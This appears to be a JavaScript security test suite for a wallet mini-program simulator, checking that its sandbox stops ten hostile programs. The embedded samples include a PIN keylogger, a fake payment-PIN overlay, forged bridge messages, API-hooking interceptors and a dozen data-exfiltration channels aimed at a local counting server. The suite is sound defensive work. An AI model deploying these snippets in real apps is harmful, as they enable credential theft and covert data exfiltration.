// Ten programs that are after the PIN, the login, other programs' storage, the network or the user's time. None gets anywhere, and
// the capsule answers throughout.
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { after, before, test } from "node:test";
import { until } from "../patience.mjs";
import { openContext, startBrowser } from "./stage/browser.mjs";
import { startDemo } from "./stage/demo.mjs";
import { countMessages, handled } from "./stage/frames.mjs";
import { Merchant } from "./stage/merchant.mjs";
import { addProgram, Phone } from "./stage/simulator.mjs";

const PIN = "246810";
const WIDE = { locale: "en", viewport: { width: 1280, height: 1040 }, reducedMotion: "reduce" };
let demo;
let browser;
let merchant;
/** A server that no program may reach; it counts who does. */
let outside;

before(async () => {
  [demo, browser] = await Promise.all([startDemo(), startBrowser()]);
  merchant = new Merchant(demo);
  const seen = [];
  const http = createServer((request, response) => {
    seen.push(`${request.method} ${request.url}`);
    response.writeHead(200, { "access-control-allow-origin": "*" }).end("reached");
  });
  await new Promise((resolve) => http.listen(0, "127.0.0.1", resolve));
  outside = { url: `http://127.0.0.1:${http.address().port}`, seen, stop: () => new Promise((resolve) => { http.closeAllConnections(); http.close(resolve); }) };
});

after(async () => {
  await browser?.close();
  await outside?.stop();
  await demo?.stop();
});

const web = (script, body = "") => ({
  "index.html": `<!doctype html><html><head><title>Hostile</title></head><body><input id="url" aria-label="url"><input id="bag" aria-label="bag"><p class="out">ready</p>${body}
<script>
const out = document.querySelector('.out');
const say = (text) => { out.textContent = text; };
const call = (name, params) => new Promise((resolve) => AlipayJSBridge.call(name, params, resolve));
const pay = () => call('tradePay', { paymentUrl: document.querySelector('#url').value }).then(({ resultCode }) => say('pay ' + resultCode));
const button = (id, run) => { const node = document.createElement('button'); node.id = id; node.textContent = id; node.onclick = run; document.body.append(node); };
button('pay', pay);
${script}
</script></body></html>`,
});
const H5 = ["--type", "h5"];

/** Opens a hostile program in a profile of its own; what the page's console says is not asserted, because such programs fail. */
const story = (name, files, flags, run) =>
  test(name, async () => {
    const id = `p${name.replace(/[^a-z]/g, "").slice(0, 20)}`;
    addProgram(demo, id, files, flags);
    const context = await openContext(browser, WIDE);
    try {
      const page = await context.newPage();
      await countMessages(page);
      const phone = await Phone.open(page, demo);
      await phone.start(id);
      await run(phone, page, id);
    } finally {
      await context.close();
    }
  });

/** The capsule answers: the program is closed, and the wallet is on the screen. */
async function closes(page, id) {
  const before = (await handled(page)).all;
  await page.locator(".capsule button").nth(1).click();
  await page.locator(`.wallet button[data-program=${id}]`).waitFor();
  await until(async () => (await page.locator(".layers > :not(.is-leaving):not(:has(.sheet))").count()) === 0, "the program's layers to go");
  return (await handled(page)).all - before;
}



story(
  "focus",
  web(`let stolen = ''; let turns = 0; const bag = document.querySelector('#bag');
    const note = (event) => { stolen += event.key ?? event.data ?? ''; };
    for (const type of ['keydown', 'beforeinput']) addEventListener(type, note, true);
    // any machine: so often that there is a turn whenever a key comes
    button('arm', () => { stolen = ''; setInterval(() => { turns += 1; window.focus(); bag.focus(); document.documentElement.inert = false; }, 5); });
    button('tell', () => say('stolen:' + stolen + ' ' + (turns > 0)));`),
  H5,
  async (phone, page, id) => {
    await phone.frame.locator("#url").fill(await merchant.order(1000));
    await phone.frame.locator("#arm").click();
    await phone.frame.locator("#pay").dispatchEvent("click");
    await phone.sheet.locator(".pad").waitFor();
    // There is no field to type into: a browser lets such a program have the keyboard.
    assert.equal(await phone.sheet.locator("input").count(), 0);
    await phone.pad(PIN);
    await phone.outcome(/^pay 9000$/);
    await phone.frame.locator("#tell").dispatchEvent("click");
    const told = await phone.outcome(/^stolen:/);
    assert.match(told, /true$/);
    assert.doesNotMatch(told, /[0-9]/, told);
    await closes(page, id);
  },
);

story(
  "veils",
  web(`button('all', () => { for (let i = 0; i < 60; i += 1) { call(['alert', 'confirm', 'prompt'][i % 3], { title: 'Veil ' + i, message: 'x' }).then(again); } call('getAuthCode', { scopeNicks: ['USER_NAME'] }).then(again); });
    const again = () => call('alert', { title: 'And again' }).then(again);`),
  H5,
  async (phone, page, id) => {
    await phone.frame.locator("#all").click();
    await page.locator(".dialog").waitFor();
    assert.equal(await page.locator(".layers > :not(.is-leaving)").count(), 1);
    await closes(page, id);
  },
);

story(
  "floods",
  web(`button('go', () => { say('flooding'); for (let round = 0; round < 200000; round += 1) AlipayJSBridge.call('getRunScene', {}, () => {}); });`),
  H5,
  async (phone, page, id) => {
    // The frame is gone before the script has ended.
    phone.frame.locator("#go").dispatchEvent("click").catch(() => {});
    await page.locator(".program-body [role=alert]").waitFor();
    // Far fewer than were sent: the channel was closed, not emptied.
    const { all } = await handled(page);
    assert.ok(all < 100_000, `${all} messages were handled`);
    await closes(page, id);
  },
);

story(
  "imitation",
  web(
    `document.title = 'Confirm your payment'; call('setTitle', { title: 'Payment PIN' });
    button('ask', () => call('prompt', { title: 'Your PIN code', message: 'Wallet PIN' }).then(({ error }) => say('refused ' + error)));`,
    `<div style="position:fixed;inset:0;background:#fff;z-index:9"><h1>Confirm your payment</h1><input type="password" aria-label="Payment PIN"></div>`,
  ),
  H5,
  async (phone, page, id) => {
    await phone.frame.locator("#ask").dispatchEvent("click");
    await phone.outcome(/^refused 2$/);
    assert.equal(await page.locator(".program .title-text").textContent(), id);
    assert.ok(await page.locator(".capsule").isVisible());
    await closes(page, id);
  },
);

story(
  "origin",
  web(`button('go', async () => {
      const wallet = 'http://' + '127.0.0.1:' + location.port;
      const reached = [];
      const tries = {
        parent: () => parent.document.body, top: () => top.document.body, parentStorage: () => parent.localStorage.length,
        wallet: () => fetch(wallet + '/simulator', { credentials: 'include' }), opaque: () => fetch(wallet + '/wallet', { mode: 'no-cors' }),
        host: () => fetch(wallet + '/host/v1/openapi.json'), clock: () => fetch(wallet + '/demo/clock', { method: 'POST', body: '{}' }),
        own: () => fetch('/host/v1/openapi.json').then((answer) => { if (!answer.ok) throw answer; }),
        socket: () => new Promise((resolve, reject) => { const socket = new WebSocket(wallet.replace('http', 'ws') + '/simulator/socket'); socket.onopen = resolve; socket.onerror = reject; }),
        ownSocket: () => new Promise((resolve, reject) => { const socket = new WebSocket('ws://' + location.host + '/simulator/socket'); socket.onopen = resolve; socket.onerror = reject; }),
        popup: () => { if (!open(wallet)) throw 'refused'; }, moveTop: () => { top.location = 'about:blank'; },
      };
      for (const [name, run] of Object.entries(tries)) await Promise.resolve().then(run).then(() => reached.push(name), () => {});
      say('reached:' + reached.join());
    });`),
  H5,
  async (phone, page, id) => {
    await phone.frame.locator("#go").click();
    assert.equal(await phone.outcome(/^reached:/), "reached:");
    await closes(page, id);
  },
);

test("storage", async () => {
  const keeper = web(`button('keep', async () => { try { localStorage.setItem('secret', 'of the keeper'); } catch {} await call('setTinyLocalStorage', { key: 'secret', data: 'of the keeper' }); say('kept'); });`);
  const thief = web(`button('look', async () => { let kept = null; try { kept = localStorage.getItem('secret'); } catch {} const { data } = await call('getTinyLocalStorage', { key: 'secret' }); const info = await call('getTinyLocalStorageInfo', {});
      say('found ' + data + ' ' + kept + ' ' + document.cookie + ' ' + info.keys.length); });`);
  addProgram(demo, "keeper", keeper, H5);
  addProgram(demo, "burglar", thief, H5);
  const context = await openContext(browser, WIDE);
  try {
    const page = await context.newPage();
    const phone = await Phone.open(page, demo);
    await phone.start("keeper");
    await phone.frame.locator("#keep").click();
    await phone.outcome(/^kept$/);
    await page.locator(".capsule button").nth(1).click();
    await phone.start("burglar");
    await phone.frame.locator("#look").click();
    assert.equal(await phone.outcome(/^found/), "found null null 0");
  } finally {
    await context.close();
  }
});

story(
  "forged messages",
  web(`button('forge', () => {
      const messages = [{ kind: 'cashier', state: 'paid' }, { t: 'answer', id: 1, value: { pin: '246810' } }, { kind: 'held', turn: 1 }, { kind: 'ready' }, { t: 'paid' }, { v: 1, kind: 'result', id: 1, ok: true, value: {} }, 'm{"v":1,"kind":"flushed","token":"close"}'];
      for (const target of [parent, top]) for (const message of messages) target.postMessage(message, '*');
      for (const message of messages) AlipayJSBridge.call(message.kind ?? message.t ?? 'x', message, () => {});
      say('forged');
    });`),
  H5,
  async (phone, page, id) => {
    await phone.frame.locator("#url").fill(await merchant.order(1000));
    await phone.frame.locator("#pay").click();
    await phone.sheet.locator(".pad").waitFor();
    await phone.frame.locator("#forge").dispatchEvent("click");
    await until(async () => (await phone.frame.locator(".out").textContent()) === "forged", "the forged messages");
    assert.equal(await phone.sheet.locator(".pad").count(), 1, "the sheet still asks");
    await phone.pad(PIN);
    await phone.outcome(/^pay 9000$/);
    await closes(page, id);
  },
);

story(
  "bridge replaced",
  web(`const heard = []; const real = AlipayJSBridge;
    globalThis.AlipayJSBridge = new Proxy(real, { get: (target, name) => name === 'call' ? (...args) => { heard.push(args[0]); return real.call(...args); } : target[name] });
    const post = MessagePort.prototype.postMessage; MessagePort.prototype.postMessage = function (...args) { heard.push(JSON.stringify(args)); return post.apply(this, args); };
    const parse = JSON.parse; JSON.parse = (text, ...rest) => { heard.push(text); return parse(text, ...rest); };
    for (const type of ['message', 'keydown', 'input']) addEventListener(type, (event) => heard.push(String(event.data ?? event.key)), true);
    button('tell', () => say('heard ' + heard.join(' ')));`),
  H5,
  async (phone, page, id) => {
    await phone.frame.locator("#url").fill(await merchant.order(1000));
    await phone.frame.locator("#pay").click();
    await phone.pad(PIN);
    await phone.outcome(/^pay 9000$/);
    // The program is told before the sheet has gone, and a tap on the sheet is none on the program.
    await phone.sheet.waitFor({ state: "detached" });
    await phone.frame.locator("#tell").click();
    const told = await phone.outcome(/^heard/);
    assert.ok(!told.includes(PIN) && !/st_|session/.test(told), told.slice(0, 400));
    await closes(page, id);
  },
);

test("network", async () => {
  const files = web(`button('go', async () => {
      const url = OUTSIDE; const tries = [
        () => fetch(url + '/fetch', { mode: 'no-cors' }), () => navigator.sendBeacon(url + '/beacon', 'x'), () => { new Image().src = url + '/image'; },
        () => { const frame = document.createElement('iframe'); frame.src = url + '/frame'; document.body.append(frame); },
        () => { const link = document.createElement('link'); link.rel = 'prefetch'; link.href = url + '/prefetch'; document.head.append(link); },
        () => { const style = document.createElement('style'); style.textContent = '@import url(' + url + '/style);body{background:url(' + url + '/background)}'; document.head.append(style); },
        () => import(url + '/module.js'), () => new Worker(url + '/worker.js'), () => new EventSource(url + '/events'), () => new WebSocket(url.replace('http', 'ws') + '/socket'),
        () => navigator.serviceWorker.register('/index.html'), () => { const media = new Audio(url + '/audio'); media.play(); },
      ];
      for (const run of tries) await Promise.resolve().then(run).catch(() => {});
      setTimeout(() => say('tried ' + tries.length), 100);
    });
    button('away', () => { setTimeout(() => { location.href = OUTSIDE + '/away'; }); const form = document.createElement('form'); form.action = OUTSIDE + '/form'; form.method = 'post'; document.body.append(form); form.submit(); });`);
  files["index.html"] = files["index.html"].replaceAll("OUTSIDE", `'${outside.url}'`);
  addProgram(demo, "sender", files, H5);
  const context = await openContext(browser, WIDE);
  try {
    const page = await context.newPage();
    await countMessages(page);
    const phone = await Phone.open(page, demo);
    await phone.start("sender");
    await phone.frame.locator("#go").click();
    await phone.outcome(/^tried 12$/);
    const frame = page.frames().find((one) => one.url().includes("sender.localhost"));
    assert.equal(await frame.evaluate(() => navigator.serviceWorker.getRegistrations().then((all) => all.length, () => 0)), 0);
    await phone.frame.locator("#away").click().catch(() => {});
    await closes(page, "sender");
    assert.deepEqual(outside.seen, []);
  } finally {
    await context.close();
  }
});

story(
  "spins",
  web(`button('spin', () => { call('alert', { title: 'Forever' }); setTimeout(() => { for (;;); }, 50); });`),
  H5,
  async (phone, page, id) => {
    await phone.frame.locator("#spin").click();
    await page.locator(".dialog").waitFor();
    await closes(page, id);
    // The next program opens although the last one never answers.
    await page.locator(".wallet button[data-program=tea-shop]").click();
    await page.locator("iframe.program-frame").waitFor({ state: "attached" });
  },
);
